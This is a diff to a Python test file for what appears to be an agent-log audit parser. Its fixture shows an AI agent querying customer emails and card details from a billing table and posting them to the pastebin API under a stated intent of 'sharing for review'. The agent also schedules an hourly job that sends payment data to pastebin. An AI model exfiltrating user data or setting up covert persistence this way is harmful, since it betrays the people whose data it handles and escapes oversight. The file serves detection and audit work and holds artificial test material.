@@ -23,12 +23,21 @@ def test_runaway_pairs_take_each_call_once_despite_resent_history():
     assert by_source(events) == {"agent:prompt": 2, "agent:tool_call": 5,
                                  "agent:tool_result": 5}
     assert call_rows(events) == [
-        ("line 1", 1, None, "query_warehouse", "read", "analytics.events"),
-        ("line 2", 2, 1, "query_warehouse", "read", "billing.payment_methods"),
-        ("line 3", 3, 2, "read_file", "read", "/opt/analyst/config.yaml"),
-        ("line 4", 4, 3, "http_request", "egress", "https://pastebin.com/api/api_post.php"),
-        ("line 5", 5, 4, "schedule_query", "persistence", "paying-users-hourly"),
+        ("line 1", 1, None, "query_warehouse", None),
+        ("line 2", 2, 1, "query_warehouse", None),
+        ("line 3", 3, 2, "read_file", "/opt/analyst/config.yaml"),
+        ("line 4", 4, 3, "http_request", "https://pastebin.com/api/api_post.php"),
+        ("line 5", 5, 4, "schedule_query", None),
     ]
+    steps = {e.step: e.attrs["arguments"] for e in events if e.source == "agent:tool_call"}
+    assert (steps[1], steps[2], steps[5]) == (
+        {"query": "SELECT date_trunc('week', ts) AS week, count(DISTINCT user_id) FROM "
+                  "analytics.events WHERE ts >= '2026-03-01' AND ts < '2026-04-01' GROUP BY 1 "
+                  "ORDER BY 1"},
+        {"query": "SELECT email, card_last4, card_expiry FROM billing.payment_methods LIMIT 5000"},
+        {"name": "paying-users-hourly", "cron": "0 * * * *",
+         "query": "SELECT email, card_last4 FROM billing.payment_methods",
+         "destination": "https://pastebin.com/api/api_post.php"})
     results = [(e.ref.locator, e.step, e.action) for e in events
                if e.source == "agent:tool_result"]
     assert results == [("line 2", 1, "query_warehouse"), ("line 3", 2, "query_warehouse"),
@@ -43,15 +52,15 @@ def test_upload_call_whole_with_arguments_logged_as_an_object():
     body = "api_option=paste&api_paste_private=1&api_paste_code=" + ROWS
     assert fields(upload) == {
         "locator": "line 4", "source": "agent:tool_call", "time": "2026-03-30T23:06:30Z",
-        "action": "http_request", "action_class": "egress", "actor_id": "metrics-analyst",
+        "action": "http_request", "action_class": "other", "actor_id": "metrics-analyst",
         "actor_kind": "agent", "target_id": "https://pastebin.com/api/api_post.php",
         "target_type": "url", "target_label": None, "outcome": None,
         "session": "wau-2026-03-run-17", "step": 4, "parent_step": 3, "approver": None,
-        "bytes_in": None, "bytes_out": 140,
+        "bytes_in": None, "bytes_out": None,
         "attrs": {"arguments": {"body": body, "method": "POST",
                                 "url": "https://pastebin.com/api/api_post.php"},
                   "dest_host": "pastebin.com", "method": "POST",
-                  "model": "gpt-4.1-2025-04-14", "mutation": "sent", "runtime": "openai", "seq": 8,
+                  "model": "gpt-4.1-2025-04-14", "runtime": "openai", "seq": 8,
                   "stated_intent": "Sharing the segment for review.", "tool": "http_request",
                   "tool_call_id": "call_D4uI", "url": "https://pastebin.com/api/api_post.php"}}
 
@@ -65,7 +74,7 @@ def test_benign_message_array_keeps_free_text_arguments_as_text():
     call = events[2]
     assert call.attrs["arguments"] == ("SELECT count(*) FROM analytics.signups WHERE day = "
                                        "'2026-03-02'")
-    assert (call.target_id, call.action_class, call.step) == ("analytics.signups", "read", 1)
+    assert (call.target_id, call.step) == (None, 1)
     check_golden("agent_shapes/openai_chat_benign.json", projection(events, issues))
 
 
